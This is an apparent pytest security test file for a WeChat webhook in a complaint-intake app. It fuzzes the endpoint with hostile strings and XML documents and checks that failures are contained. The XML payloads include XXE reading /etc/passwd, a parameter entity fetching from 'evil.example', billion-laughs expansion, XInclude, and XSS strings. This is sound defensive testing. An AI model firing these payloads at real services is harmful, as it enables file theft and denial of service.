"""The hostile corpus through ``/wechat``, signed and encrypted by the simulated WeChat server
(tests/wechat/conftest.py): each text at every step of a conversation (the idle chat, the
category, the division, the institution, the description, the location, the status query,
the notification request), in every other field of a push (message type, event, media id,
picture URL, location, voice recognition, sender, account, times and ids), and pushes hostile
as documents (XXE, entity expansion, deep nesting, malformed XML, ciphertext that is not, an
encrypted document that is itself hostile, hostile query parameters).

Every push is answered 200 (a reply that parses and decrypts, or ``success``) or with an empty
4xx; none fails inside (the apology a failure gets is logged as "push failed", which the
``verdicts`` fixture refuses)."""

from __future__ import annotations

import secrets
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import Engine

from core.settings import Settings
from intake.wechat import api as wechat_api
from intake.wechat import texts
from intake.wechat.api import HttpResponse
from tests.conftest import make_settings
from tests.hostile.conftest import Verdicts
from tests.hostile.corpus import STRINGS, Hostile, tried
from tests.triage.conftest import World, world
from tests.wechat.conftest import (
    ACCOUNT,
    FakeApi,
    WeChat,
    cdata,
    client,
    division_number,
    fake_api,
    ready,
    sign,
    wechat_settings,
    wx,
    wx_decrypt,
    wx_encrypt,
    xml_fields,
)

__all__ = ["client", "fake_api", "ready", "world", "wx"]

APOLOGY = texts.translate(texts.ZH, "Something went wrong and nothing was saved. Please try again.")


@pytest.fixture
def settings(session_data_dir: Path, engine: Engine, fake_api: FakeApi) -> Settings:
    base = make_settings(session_data_dir, str(engine.url.render_as_string(hide_password=False)))
    return wechat_settings(base, fake_api.url)


def xml_value(item: Hostile) -> str:
    """A text as the simulator puts it in a push: a lone surrogate cannot be UTF-8, so it
    goes as the replacement character a sloppy client would send."""
    return item.value if item.encodable else item.utf8.decode("utf-8", "replace")


def deliver(wx: WeChat, verdicts: Verdicts, what: str, values: dict[str, str | int]) -> str | None:
    """Send one push; check the answer; the reply's text (None for ``success`` or a 4xx)."""
    response = wx.post(*wx.envelope(_message(values)))
    status = verdicts.check(what, response, empty_4xx=True)
    if status != 200:
        return None
    try:
        reply = read_reply(wx, response.get_data(), values)
    except Exception as exc:  # the reply must parse and decrypt: anything else is a defect
        verdicts.fail(f"{what}: the reply does not read back ({type(exc).__name__}: {exc})")
        return None
    if reply is not None and APOLOGY in reply:
        verdicts.fail(f"{what}: answered with the apology of a failure inside")
    return reply


def read_reply(wx: WeChat, body: bytes, values: dict[str, str | int]) -> str | None:
    """The Content of a safe-mode reply, checked as WeChat checks it (signature, AppID) and
    addressed back to whoever the push said it came from (hostile or not)."""
    if body in {b"success", b""}:
        return None
    outer = xml_fields(body)
    assert set(outer) == {"Encrypt", "MsgSignature", "TimeStamp", "Nonce"}, outer
    expected = sign(wx.token, outer["TimeStamp"], outer["Nonce"], outer["Encrypt"])
    assert outer["MsgSignature"] == expected, "the reply's MsgSignature does not match"
    reply = xml_fields(wx_decrypt(wx.key, wx.appid, outer["Encrypt"]))
    assert reply["ToUserName"] == str(values["FromUserName"]).strip(), reply["ToUserName"]
    assert reply["FromUserName"] == str(values["ToUserName"]).strip(), reply["FromUserName"]
    assert reply["MsgType"] == "text"
    assert len(reply["Content"].encode("utf-8")) <= 2048
    return reply["Content"]


def _message(values: dict[str, str | int]) -> bytes:
    parts = [
        f"<{name}>{value}</{name}>"
        if isinstance(value, int)
        else f"<{name}>{cdata(value)}</{name}>"
        for name, value in values.items()
    ]
    return ("<xml>" + "".join(parts) + "</xml>").encode("utf-8")


def test_every_step_of_a_conversation(wx: WeChat, ready: World, verdicts: Verdicts) -> None:
    division = str(division_number(ready.dbs))
    for item in STRINGS:
        follower = WeChat(wx.client, wx.clock)
        text = xml_value(item)
        steps = [
            ("idle", text),
            ("start", "举报"),
            ("category", text),
            ("category ok", "2"),
            ("division", text),
            ("division ok", division),
            ("institution", text),
            ("description", "二楼的消防通道被杂物堵死了，" + text),
            ("description done", "完成"),
            ("photos skipped", "跳过"),
            ("location", text),
            ("confirm", "确认"),
            ("query", "查询 " + text),
            ("token alone", text),
            ("subscribe", "订阅 " + text),
        ]
        for step, content in steps:
            deliver(
                follower,
                verdicts,
                f"wechat {step} {item.id}",
                follower.fields("text", Content=content),
            )
    tried("WeChat conversation steps (text pushes)", len(STRINGS) * 9)


def test_every_field_of_a_push(wx: WeChat, ready: World, verdicts: Verdicts) -> None:
    for item in STRINGS:
        text = xml_value(item)
        follower = WeChat(wx.client, wx.clock)
        pushes: list[tuple[str, dict[str, str | int]]] = [
            (
                "text and extra fields",
                follower.fields("text", Content="帮助", Extra=text, URL=text),
            ),
            ("image", follower.fields("image", MediaId=text, PicUrl=text)),
            (
                "location",
                follower.fields(
                    "location", Location_X=text, Location_Y=text, Scale=text, Label=text
                ),
            ),
            ("event", follower.fields("event", Event=text, EventKey=text)),
            ("voice", follower.fields("voice", MediaId=text, Format=text, Recognition=text)),
            ("link", follower.fields("link", Title=text, Description=text, Url=text)),
            ("message type", follower.fields(text or "x", Content="帮助")),
            ("sender", {**follower.fields("text", Content="帮助"), "FromUserName": text}),
            ("account", {**follower.fields("text", Content="帮助"), "ToUserName": text}),
            ("create time", {**follower.fields("text", Content="帮助"), "CreateTime": text}),
            ("message id", {**follower.fields("text", Content="帮助"), "MsgId": text}),
        ]
        for what, values in pushes:
            deliver(follower, verdicts, f"wechat field {what} {item.id}", values)
    tried("WeChat push fields", len(STRINGS) * 21)


def _documents() -> list[tuple[str, bytes]]:
    deep = "<a>" * 5_000 + "x" + "</a>" * 5_000
    return [
        (
            "xxe",
            b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Content>&e;</Content></xml>',
        ),
        (
            "xxe-parameter",
            b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><xml/>',
        ),
        (
            "billion-laughs",
            b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(
                f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode()
                for i in range(9)
            )
            + b"]><xml><Content>&j;</Content></xml>",
        ),
        ("undefined-entity", b"<xml><Content>&nope;</Content></xml>"),
        ("deep", f"<xml>{deep}</xml>".encode()),
        (
            "many-elements",
            ("<xml>" + "".join(f"<F{i}>x</F{i}>" for i in range(5_000)) + "</xml>").encode(),
        ),
        ("duplicate-field", b"<xml><MsgType>text</MsgType><MsgType>event</MsgType></xml>"),
        ("other-root", b"<html><script>alert(1)</script></html>"),
        ("unclosed", b"<xml><Content>abc"),
        ("not-xml", b'{"json": true}'),
        ("empty", b""),
        ("bom-only", b"\xef\xbb\xbf"),
        ("invalid-utf8", b"<xml><Content>\xff\xfe\xc0\x80</Content></xml>"),
        ("utf16", "<xml><Content>消防</Content></xml>".encode("utf-16")),
        (
            "declared-gbk",
            '<?xml version="1.0" encoding="gbk"?><xml><Content>消防</Content></xml>'.encode("gbk"),
        ),
        ("declared-unknown", b'<?xml version="1.0" encoding="x-evil"?><xml/>'),
        ("nul", b"<xml><Content>a\x00b</Content></xml>"),
        (
            "processing-instruction",
            b'<?xml-stylesheet href="javascript:alert(1)"?><xml><Content>x</Content></xml>',
        ),
        ("cdata-nest", b"<xml><Content><![CDATA[<![CDATA[x]]>]]></Content></xml>"),
        ("long-field", f"<xml><Content>{'x' * 20_000}</Content></xml>".encode()),
        ("oversize", b"<xml>" + b"x" * (65 * 1024) + b"</xml>"),
        (
            "xinclude",
            b'<xml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></xml>',
        ),
    ]


def _signed_query(wx: WeChat, ciphertext: str | None = None) -> dict[str, str]:
    timestamp, nonce = str(wx.now()), str(secrets.randbelow(10**9))
    query = {"signature": sign(wx.token, timestamp, nonce), "timestamp": timestamp, "nonce": nonce}
    if ciphertext is not None:
        query["encrypt_type"] = "aes"
        query["msg_signature"] = sign(wx.token, timestamp, nonce, ciphertext)
    return query


def test_hostile_documents(wx: WeChat, ready: World, verdicts: Verdicts) -> None:
    count = 0
    for name, document in _documents():
        # As the outer document of a signed push (no encryption: refused, or parsed and refused).
        verdicts.check(f"wechat outer {name}", wx.post(_signed_query(wx), document), empty_4xx=True)
        # As the encrypted inner document, with a valid msg_signature over it.
        ciphertext = wx_encrypt(wx.key, wx.appid, document)
        body = f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><Encrypt>{cdata(ciphertext)}</Encrypt></xml>"
        response = wx.post(_signed_query(wx, ciphertext), body.encode())
        verdicts.check(f"wechat inner {name}", response, empty_4xx=True)
        count += 2
    for item in STRINGS:
        text = xml_value(item)
        # Hostile ciphertext, correctly signed.
        body = (
            f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><Encrypt>{cdata(text)}</Encrypt></xml>"
        )
        status = verdicts.check(
            f"wechat ciphertext {item.id}",
            wx.post(_signed_query(wx, text), body.encode("utf-8")),
            empty_4xx=True,
        )
        if status < 400:
            verdicts.fail(f"wechat ciphertext {item.id}: hostile ciphertext was taken")
        # Hostile query parameters on a well-formed push.
        query, good = wx.envelope(_message(wx.fields("text", Content="帮助")))
        for key in ("signature", "timestamp", "nonce", "encrypt_type", "msg_signature", "openid"):
            response = wx.client.post(
                "/wechat", query_string={**query, key: text}, data=good, content_type="text/xml"
            )
            verdicts.check(f"wechat query {key} {item.id}", response, empty_4xx=True)
        response = wx.client.get("/wechat", query_string={**_signed_query(wx), "echostr": text})
        verdicts.check(f"wechat verify echostr {item.id}", response, empty_4xx=True)
        count += 8
    tried("WeChat hostile documents, ciphertexts and query parameters", count)


def test_a_hostile_report_is_filed_and_reads_back(
    wx: WeChat, ready: World, verdicts: Verdicts, settings: Settings
) -> None:
    """One report whose every typed field is a script payload goes in whole, and the status
    query shows it without failing."""
    from intake import services as intake_services
    from tests.wechat.test_conversation import token_in

    payload = "<script>window.__pwned=1</script>\"'><img src=x onerror=alert(1)>]]>"
    steps = [
        "举报",
        "2",
        str(division_number(ready.dbs)),
        payload,
        payload + "——消防通道被堵死了很多天",
        "完成",
        "跳过",
        payload,
    ]
    for content in steps:
        deliver(
            wx,
            verdicts,
            f"wechat hostile report {content[:10]}",
            wx.fields("text", Content=content),
        )
    reply = deliver(
        wx, verdicts, "wechat hostile report confirm", wx.fields("text", Content="确认")
    )
    assert reply is not None
    token = token_in(reply)
    opened = intake_services.open_with_token(ready.dbs, settings, token)
    assert opened.content.description.startswith(payload)
    assert opened.content.location == payload
    assert (
        deliver(wx, verdicts, "wechat hostile report query", wx.fields("text", Content=token))
        is not None
    )
    tried("WeChat report with script payloads, filed and queried", 3)


def _hostile_answers() -> list[tuple[str, HttpResponse]]:
    """What a broken, hostile or impersonated WeChat API could answer."""
    deep = b"[" * 200_000 + b"]" * 200_000
    bodies = {
        "deep JSON": deep,
        "deep JSON object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "not UTF-8": b"\xff\xfe{\x00}\x00",
        "a JSON list": b"[1, 2, 3]",
        "a JSON string": b'"access_token"',
        "errcode as text": b'{"errcode": "0", "access_token": "x", "expires_in": 7200}',
        "errcode a float": b'{"errcode": 1e999}',
        "huge integer": b'{"errcode": ' + b"9" * 5000 + b"}",
        "token not text": b'{"access_token": ["x"], "expires_in": 7200}',
        "expiry as text": b'{"access_token": "x", "expires_in": "7200"}',
        "NaN": b'{"access_token": "x", "expires_in": NaN}',
        "empty": b"",
        "HTML": b"<html><script>alert(1)</script></html>",
    }
    return [
        (f"{name} ({content_type}, {status})", HttpResponse(status, content_type, body))
        for name, body in bodies.items()
        for content_type in ("application/json", "text/plain", "image/jpeg")
        for status in (200, 500)
    ]


GOOD_TOKEN = HttpResponse(200, "application/json", b'{"access_token": "T", "expires_in": 7200}')

CALLS: dict[str, Callable[[wechat_api.WeChatApi], object]] = {
    "stable_token": lambda api: api.access_token(force=True),
    "media/get": lambda api: api.download_media("MEDIA"),
    "subscribe": lambda api: api.send_subscribe_message(
        "OPENID", "TEMPLATE", scene=1, title="t", content="c"
    ),
}


class HostileTransport:
    """Answers ``answer`` to the call under test (a good token to the token request that
    comes before it) and keeps the URLs asked."""

    def __init__(self, what: str, answer: HttpResponse) -> None:
        self.what = what
        self.answer = answer
        self.asked: list[str] = []

    def __call__(
        self, method: str, url: str, body: bytes | None, content_type: str | None, limit: int
    ) -> HttpResponse:
        self.asked.append(url)
        if self.what != "stable_token" and "/stable_token" in url:
            return GOOD_TOKEN
        return self.answer


def test_hostile_api_answers_are_api_errors(settings: Settings) -> None:
    """Every call to the WeChat API meets each hostile answer with an ``ApiError`` (the job logs
    its error code and tries again later) or a result, never another exception that would end
    the job run; deep nesting once escaped as a ``RecursionError``."""
    failures: list[str] = []
    refused: Counter[str] = Counter()
    answers = _hostile_answers()
    for name, answer in answers:
        for what, call in CALLS.items():
            transport = HostileTransport(what, answer)
            wechat_api.forget_tokens()
            api = wechat_api.WeChatApi(settings, transport=transport, sleep=lambda _s: None)
            try:
                call(api)
            except wechat_api.ApiError:
                refused[what] += 1
            except Exception as exc:
                failures.append(f"{what} with {name}: {type(exc).__name__}")
            if not any(what.split("/")[0] in url for url in transport.asked):
                failures.append(f"{what} with {name}: the call was never made")
    wechat_api.forget_tokens()
    tried("WeChat API hostile answers", len(answers) * len(CALLS))
    assert failures == []
    # None of them is a usable access token.
    assert refused["stable_token"] == len(answers)
